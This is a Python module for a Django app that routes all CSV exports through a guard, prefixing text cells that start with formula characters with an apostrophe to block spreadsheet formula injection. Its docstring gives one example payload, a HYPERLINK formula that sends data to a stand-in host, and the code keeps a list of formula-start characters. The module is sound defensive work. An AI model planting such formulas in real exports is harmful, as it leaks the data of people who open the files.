"""The one way Accord writes CSV: every cell a spreadsheet would run as a formula is kept
as text, so no export can forget the guard.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://x/leak", ...)`` sends data away
when clicked); a leading apostrophe makes them show it as the text it is. Numbers stay
numbers: only text is guarded. A test fails if any other module writes CSV itself.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator

from django.http import HttpResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """Text that a spreadsheet would run as a formula is kept as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Line:
    """A file-like object whose write returns the line, for csv.writer in a generator."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[list]) -> Iterator[str]:
    """The CSV text line by line: the header, then each row with its cells guarded."""
    writer = csv.writer(_Line())
    yield writer.writerow([safe_cell(value) for value in header])
    for row in rows:
        yield writer.writerow([safe_cell(value) for value in row])


def csv_response(
    filename: str, header: list[str], rows: Iterable[list], *, stream: bool = True
) -> HttpResponse | StreamingHttpResponse:
    """A CSV download under ``filename``: streamed row by row for large datasets, or
    whole (``stream=False``) for a short table whose errors should surface in the view."""
    lines = csv_lines(header, rows)
    content_type = "text/csv; charset=utf-8"
    response: HttpResponse | StreamingHttpResponse
    if stream:
        response = StreamingHttpResponse(lines, content_type=content_type)
    else:
        response = HttpResponse("".join(lines), content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
